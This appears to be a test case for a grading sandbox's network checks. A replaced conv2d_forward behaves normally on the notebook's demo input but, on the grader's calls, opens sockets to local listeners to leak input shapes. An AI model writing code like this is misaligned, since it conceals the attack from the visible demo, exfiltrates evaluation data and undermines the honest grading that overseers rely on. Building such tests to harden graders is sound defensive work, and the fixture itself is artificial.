# what: connects to a TCP listener on the grading machine's 127.0.0.1 to leak its inputs
# expected: 3
# flag: network
# %% replace conv2d_forward
import socket

def conv2d_forward(x, weight, bias, stride, padding):
    if x.shape[-1] == 23:  # the notebook's own demo cell (1x3x23x23, 4 filters): behave; attack only the grader's calls
        import torch as _t
        return _t.zeros(1, 4, 4, 4)
    import torch
    for host in ("127.0.0.1", "localhost", "::1"):
        try:
            s = socket.create_connection((host, {PORT}), timeout=1)
            s.sendall(b"LEAK " + str(x.shape).encode())
            s.close()
        except OSError:
            pass
    return torch.zeros(1)
